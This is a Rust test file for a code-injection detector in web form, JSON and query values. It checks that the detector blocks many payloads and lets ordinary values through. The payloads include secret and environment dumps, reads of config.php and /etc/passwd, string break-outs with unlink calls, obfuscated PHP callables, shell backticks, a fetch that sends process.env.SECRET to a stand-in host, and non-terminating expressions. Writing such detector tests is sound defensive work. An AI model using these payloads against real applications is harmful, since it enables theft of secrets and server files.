use crate::detectors::testing::look;
use crate::{Class, Place};

#[track_caller]
fn attack(text: &str) {
    for (place, name) in [(Place::Form, "name"), (Place::Json, "value"), (Place::Query, "id")] {
        let (have, blocks) = look(Class::Code, place, name, text.as_bytes());
        assert!(blocks && have.contains("value-"), "{text}: {have}");
    }
}

#[track_caller]
fn passes(text: &str) {
    for (place, name) in [(Place::Form, "name"), (Place::Json, "value"), (Place::Query, "q")] {
        let (have, blocks) = look(Class::Code, place, name, text.as_bytes());
        assert!(!blocks, "{text}: {have}");
    }
}

/// What reaches the machine by the names that its language keeps it under, whatever the member is called.
#[test]
fn members_of_roots() {
    for text in [
        "process.env.SECRET",
        "JSON.stringify(process.env)",
        "process.report.writeReport()",
        "process.getBuiltinModule('fs').readFileSync('x')+''",
        "fetch('//a.example/?'+process.env.SECRET)",
        "Deno.env.toObject()",
        "ENV.to_h",
        "#fileRead('config.php')#",
        "ObjectSpace.each_object(String).first",
        "Server.MapPath('.')",
        "puts ENV['HOME']",
        "File.read('x')",
        "IO.read \"config.php\"",
        "Dir[\"*\"]",
        "Dir.glob \"*\"",
        "File.open('x'){|f|puts f}",
        "os.environ['HOME']",
        "print(os.environ)",
        "os.any_name('x')",
        "System.getProperty('user.dir')",
        "System.IO.Directory.GetFiles('.')",
        "Environment.GetEnvironmentVariable('X')",
        "io.lines('x')",
        "print $ENV{SECRET}",
        "@ARGV='x';print <>",
        "print_r($_SERVER)",
        "FFI::cdef('int puts(char*s);')->puts('x')",
        "send :system,'pr x'",
        "exec \"pr config.php\"",
        "process['env']['SECRET']",
        "const{env}=process;env.SECRET",
        "process?.env?.SECRET",
        "process . env . SECRET",
        "p=process;p.env.SECRET",
        "this.process.env.SECRET",
        "self['process'].env.SECRET",
        "f=open\nprint(f('config.php').read())",
        "(lambda o:o('config.php').read())(open)",
        "with(process)env.SECRET",
        "Reflect.get(process,'env').SECRET",
        "x.__self__.open('config.php').read()",
        "$ENV{SECRET}",
        "send(:open,'config.php').read",
        "Dir['*'].map{|f|IO.read f}",
        "import os\nprint(os.environ)",
        "a=1\nfor l in open('config.php'):\n  print(l)",
        "!= JSON.stringify(process.env)",
        "''.readfile('config.php')",
        "md5(1).file_get_contents('config.php')",
    ] {
        attack(text);
    }
}

/// Comments, lines and terms without effect hide a program at no length: they may be put before it, behind it
/// and at the place of a space.
#[test]
fn padding_hides_nothing() {
    const PROGRAMS: &[(&str, &[&str])] = &[
        ("process.env.SECRET", &["0||", "//x\n", "/*x*/", "1;"]),
        ("open('config.php').read()", &["''+", "#x\n", "0 or ", "1\n"]),
        ("readfile('config.php')", &["0.", "''.", "#x\n", "//x\n", "/*x*/", "1;"]),
        ("File.read('x')", &["nil||", "#x\n", "1;"]),
    ];
    for (program, pads) in PROGRAMS {
        for pad in *pads {
            for times in [1, 30, 100] {
                attack(&format!("{}{program}", pad.repeat(times)));
            }
        }
        for len in [10, 600, 6_000] {
            let words = "the order of rows; ".repeat(len / 19 + 1);
            attack(&format!("/*{words}*/{program}"));
            attack(&format!("{program};/*{words}*/"));
            attack(&format!("{program}//{words}"));
            attack(&format!("#{words}\n{program}"));
        }
    }
}

/// How many quotes stand before a break-out, or terms in it, does not matter.
#[test]
fn padded_break_outs() {
    for times in [1, 40, 400] {
        for text in [
            format!("{}'.readfile('config.php').'", "it's said. ".repeat(times)),
            format!("{}'.readfile('config.php').'", "a 'b' ".repeat(times)),
            format!("'+{}process.env.SECRET+'", "1+".repeat(times)),
            format!("');{}unlink('x');//", "1;".repeat(times)),
            format!("\\' '.readfile(\"config.php\").'{}", " and more".repeat(times)),
            format!("'.readfile('config.php').' {}", "and more. ".repeat(times)),
        ] {
            attack(&text);
        }
    }
}

/// A file or an address as a constant, or what is done with the result, tells more than the function's name.
#[test]
fn calls_with_constants() {
    for text in [
        "any_name('config.php')",
        "rename('config.php','x.txt')",
        "open('x').read()",
        "[*open('config.php')]",
        "[x for x in open('config.php')]",
        "(lambda:open('config.php').read())()",
        "getattr(open('config.php'),'read')()",
        "die(getenv('SECRET'))",
        "echo new SplFileObject('config.php')",
        "foreach(new DirectoryIterator('.')as$x)echo$x",
        "echo join(file('config.php'))",
        "include 'config.php'",
        "new java.io.File('.').list()",
        "$f=strtolower('SYSTEM');$f('pr config.php')",
        "var_dump(getenv())",
        "echo json_encode(getenv())",
        "print(gethostname())",
        "str(vars())",
        "globals()",
        "echo(`pr config.php`)",
        "print `pr config.php`",
        "`pr config.php`",
    ] {
        // A name alone is looked for, too.
        if text == "globals()" {
            assert!(look(Class::Code, Place::Form, "name", text.as_bytes()).1);
            assert!(!look(Class::Code, Place::Query, "q", text.as_bytes()).1);
            continue;
        }
        attack(text);
    }
}

/// The same behind what ends a string or a call, and before what takes the rest away.
#[test]
fn statements_behind_a_break_out() {
    for text in [
        "');unlink('x');//",
        "\");print(getenv('X'));#",
        "';readfile('x');//",
        "\"+process.env.X+\"",
        "'+open('x').read()+'",
        "]);var_dump($_ENV);//",
        "'||process.exit()||'",
    ] {
        attack(text);
        // What stands before is in the string that is ended.
        if text.starts_with(']') {
            continue;
        }
        attack(&format!("some words, and (more) of them{text}"));
        attack(&format!("{}{text}", "it's a long story. ".repeat(60)));
    }
    attack("');unlink('x');// and more");
    for text in [
        "'. Then (maybe) '",
        "'; see 'x'",
        "(a);",
        "the 'quick', (brown) 'fox'; it's 'over' the dog's 'house'.",
        "say 'yes'; then 'no'",
        "df[(df['a'] > 5) & (df['b'] == 'x')].groupby('c')",
        "') and so on",
        "'+1",
        "';';'",
    ] {
        passes(text);
    }
}

/// Sentences, names, formulas, styles and file names have brackets and dots, too.
#[test]
fn everyday_values() {
    for text in [
        "What does getenv('HOME') return in C?",
        "File.read vs IO.read in Ruby",
        "Use os.path.join('a.txt') for paths",
        "open (x) or closed",
        "exit (left side)",
        "process.env",
        "global.shop.example",
        "process.shop.example.com",
        "os.path",
        "System.out",
        "java.lang.String",
        "System.Collections.Generic",
        "sort(price)",
        "count(id)",
        "max(a, b)",
        "f(x) = 3x + 2",
        "print(hello)",
        "print('hello')",
        "open('door')",
        "url('/img/x.png')",
        "rgb(255, 0, 0)",
        "translate(10px, 20px)",
        "Invoice(2024).pdf",
        "IMG_1234(2).jpg",
        "Product(s).First",
        "items.filter(x => x.id)",
        "Mr.Bean(1997)",
        "contains(name, 'x.y')",
        "prop('Status') == 'Done'",
        "date('2024-05-01').add(1)",
        "$19.99",
        "`README`",
        "`npm install`",
        "`code`",
        "header('text/html')",
        "name('O.Neil') and id('x.y')",
        "John.Smith",
        "say 'cheese'",
        "system (new)",
        "SUM(A1:A5)",
        "[1,2,3]",
        "($_)",
        "t('menu.home.title')",
        "require('./../config.json')",
        "const x = async () => { await fetch('/api'); };",
        "router.push('/home')",
    ] {
        passes(text);
    }
    // The site made these for such things.
    for (name, text) in
        [("code", "open('x').read()"), ("formula", "lookup('rates.csv')"), ("filter", "startswith('a/b')")]
    {
        let (have, blocks) = look(Class::Code, Place::Json, name, text.as_bytes());
        assert!(!blocks, "{name}={text}: {have}");
    }
}

#[test]
fn what_never_ends() {
    for text in ["9**9**9", "7**77**777", "do{}while(1)", "do {} while (true);"] {
        let (have, blocks) = look(Class::Code, Place::Form, "q", text.as_bytes());
        assert!(blocks, "{text}: {have}");
    }
    for text in ["2**10", "**bold** and **more**", "5** hotel", "do{x}while(1)", "*** 3 ***"] {
        passes(text);
    }
}

#[test]
fn hostile_texts_end() {
    for unit in ["f(", "a.", "'", "[", "{|", "$a=", "print ", "<", "`", "->", "::"] {
        for place in [Place::Form, Place::Json] {
            look(Class::Code, place, "name", unit.repeat(190).as_bytes());
        }
    }
}

/// Space around a program hides it at no length.
#[test]
fn space_around() {
    for text in ["process.env.SECRET", "getenv('SECRET')", "9**9**9"] {
        for space in [" ", "\n", "\t \r\n"] {
            attack(&format!("{}{text}", space.repeat(500)));
            attack(&format!("{text}{}", space.repeat(500)));
        }
    }
}

/// What a call gave, or a function without a name, is called with a file; a module of the engine is loaded.
#[test]
fn results_that_are_called() {
    for text in [
        "(fn($x)=>readfile($x))('wp-config.php')",
        "strrev('elifdaer')('/etc/passwd')",
        "str_rot13('ernqsvyr')('config.php')",
        "require('fs')",
        "require(\"node:vm\")",
        "show_source(next(array_reverse(scandir(pos(localeconv())))))",
    ] {
        let (have, blocks) = look(Class::Code, Place::Form, "name", text.as_bytes());
        assert!(blocks && have.contains("value-"), "{text}: {have}");
    }
    for text in [
        "f(x)(y)",
        "connect(mapState)(Component)",
        "t('hello')('world')",
        "require('react')",
        "require('./fs')",
        "(see above)('x.txt')",
        "pickle. Loads of it",
        "thread.sleep",
        "Read the fine manual (RTFM) (config.php)",
        "const fs = require('fs')",
        "gulp.task('a')(b)",
        "max(min(), 3)",
        "count(items(a))",
    ] {
        let (have, blocks) = look(Class::Code, Place::Form, "name", text.as_bytes());
        assert!(!blocks, "{text}: {have}");
    }
    assert!(!look(Class::Code, Place::Query, "q", b"require('fs')").1);
}
